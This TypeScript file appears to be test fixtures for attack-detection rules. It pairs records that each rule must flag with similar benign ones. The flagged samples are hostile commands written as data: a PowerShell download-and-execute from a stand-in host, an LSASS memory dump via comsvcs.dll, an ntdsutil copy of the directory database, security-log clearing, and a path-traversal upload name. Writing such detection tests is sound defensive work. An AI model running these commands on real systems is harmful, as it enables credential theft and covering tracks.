/** A record that a rule must find (`fires`), and one much like it that it must not (`silent`). Channels and ids as Windows writes them. */
export interface RuleExample {
  readonly log: 'sysmon' | 'system' | 'security' | 'exchange' | 'powershell' | 'web' | 'zeek';
  readonly eventId?: number;
  readonly fires: Readonly<Record<string, string | number>>;
  readonly silent: Readonly<Record<string, string | number>>;
}

const SYSTEM32 = 'C:\\Windows\\System32\\';

export const EXAMPLES: Readonly<Record<string, RuleExample>> = {
  'web/autodiscover_to_powershell.yml': {
    log: 'web',
    fires: { method: 'POST', path: '/autodiscover/autodiscover.json', query: '@a.example/powershell/', status: 200 },
    silent: { method: 'POST', path: '/autodiscover/autodiscover.json', query: '@a.example/powershell/', status: 401 },
  },
  'web/upload_outside_its_folder.yml': {
    log: 'web',
    fires: { method: 'POST', path: '/edoc/upload.do', query: 'name=../../a.jsp', status: 200 },
    silent: { method: 'POST', path: '/edoc/upload.do', query: 'name=report.docx', status: 200 },
  },
  'web/page_posted_to_where_pages_do_not_change.yml': {
    log: 'web',
    fires: { method: 'POST', path: '/owa/auth/errorX1.aspx', query: '-', status: 200 },
    silent: { method: 'GET', path: '/owa/auth/errorX1.aspx', query: '-', status: 200 },
  },
  'windows/web_server_writes_page.yml': {
    log: 'sysmon',
    eventId: 11,
    fires: { Image: `${SYSTEM32}inetsrv\\w3wp.exe`, TargetFilename: 'C:\\inetpub\\wwwroot\\x.aspx' },
    silent: { Image: `${SYSTEM32}inetsrv\\w3wp.exe`, TargetFilename: 'C:\\inetpub\\logs\\x.log' },
  },
  'windows/update_package_from_shell.yml': {
    log: 'sysmon',
    eventId: 11,
    fires: { Image: `${SYSTEM32}cmd.exe`, TargetFilename: 'D:\\Updates\\packages\\setup-2.exe' },
    silent: {
      Image: 'C:\\Program Files\\Publisher\\publish.exe',
      TargetFilename: 'D:\\Updates\\packages\\setup-2.exe',
    },
  },
  'windows/web_server_starts_shell.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { ParentImage: 'C:\\Tomcat\\bin\\tomcat9.exe', Image: `${SYSTEM32}cmd.exe` },
    silent: { ParentImage: 'C:\\Windows\\explorer.exe', Image: `${SYSTEM32}cmd.exe` },
  },
  'windows/user_discovery.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: `${SYSTEM32}whoami.exe`, CommandLine: 'whoami' },
    silent: { Image: `${SYSTEM32}hostname.exe`, CommandLine: 'hostname' },
  },
  'windows/domain_groups_discovery.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: `${SYSTEM32}net.exe`, CommandLine: 'net group "domain admins" /domain' },
    silent: { Image: `${SYSTEM32}net.exe`, CommandLine: 'net localgroup administrators' },
  },
  'windows/lsass_dump_comsvcs.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: `${SYSTEM32}rundll32.exe`, CommandLine: 'rundll32 comsvcs.dll, MiniDump 1 a.bin full' },
    silent: { Image: `${SYSTEM32}rundll32.exe`, CommandLine: 'rundll32 shell32.dll,Control_RunDLL' },
  },
  'windows/directory_database_copied.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: `${SYSTEM32}ntdsutil.exe`, CommandLine: 'ntdsutil "ac i ntds" ifm "create full C:\\x" q q' },
    silent: { Image: `${SYSTEM32}ntdsutil.exe`, CommandLine: 'ntdsutil help' },
  },
  'windows/task_from_program_data.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: `${SYSTEM32}schtasks.exe`, CommandLine: 'schtasks /create /tn a /tr C:\\ProgramData\\a.exe' },
    silent: { Image: `${SYSTEM32}schtasks.exe`, CommandLine: 'schtasks /query /tn C:\\ProgramData\\a.exe' },
  },
  'windows/archive_with_password.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: 'C:\\Windows\\Temp\\rar.exe', CommandLine: 'rar.exe a -hpX out.rar D:\\Data' },
    silent: { Image: 'C:\\Windows\\Temp\\rar.exe', CommandLine: 'rar.exe x out.rar' },
  },
  'windows/security_log_cleared_by_command.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: { Image: `${SYSTEM32}wevtutil.exe`, CommandLine: 'wevtutil cl Security' },
    silent: { Image: `${SYSTEM32}wevtutil.exe`, CommandLine: 'wevtutil qe Security' },
  },
  'windows/updater_runs_package.yml': {
    log: 'sysmon',
    eventId: 1,
    fires: {
      ParentImage: 'C:\\Program Files\\Client\\updater.exe',
      Image: 'C:\\ProgramData\\Client\\Updates\\setup-1.exe',
    },
    silent: { ParentImage: 'C:\\Program Files\\Client\\updater.exe', Image: 'C:\\Program Files\\Client\\client.exe' },
  },
  'windows/program_data_connects_out.yml': {
    log: 'sysmon',
    eventId: 3,
    fires: { Image: 'C:\\ProgramData\\a.exe', Initiated: 'true', DestinationIp: '192.0.2.9' },
    silent: { Image: 'C:\\ProgramData\\a.exe', Initiated: 'true', DestinationIp: '10.1.2.3' },
  },
  'windows/service_from_temp.yml': {
    log: 'system',
    eventId: 7045,
    fires: { ServiceName: 'abc', ImagePath: '%SystemRoot%\\Temp\\abc.exe' },
    silent: { ServiceName: 'abc', ImagePath: 'C:\\Program Files\\Abc\\abc.exe' },
  },
  'windows/psexec_service.yml': {
    log: 'system',
    eventId: 7045,
    fires: { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' },
    silent: { ServiceName: 'Spooler', ImagePath: 'C:\\Windows\\System32\\spoolsv.exe' },
  },
  'windows/security_log_cleared.yml': {
    log: 'security',
    eventId: 1102,
    fires: { SubjectUserName: 'a' },
    silent: { SubjectUserName: 'a', EventID: 1100 },
  },
  'windows/remote_desktop_from_outside.yml': {
    log: 'security',
    eventId: 4624,
    fires: { LogonType: 10, TargetUserName: 'a', IpAddress: '192.0.2.4' },
    silent: { LogonType: 10, TargetUserName: 'a', IpAddress: '10.0.0.4' },
  },
  'windows/mailbox_export.yml': {
    log: 'exchange',
    eventId: 1,
    fires: { Data: 'New-MailboxExportRequest' },
    silent: { Data: 'Get-Mailbox' },
  },
  'windows/script_downloads_and_runs.yml': {
    log: 'powershell',
    eventId: 4104,
    fires: { ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://a.example/")' },
    silent: { ScriptBlockText: 'Get-Service' },
  },
  'zeek/much_sent_out.yml': {
    log: 'zeek',
    fires: { sent: 200_000_000 },
    silent: { sent: 2_000_000 },
  },
};
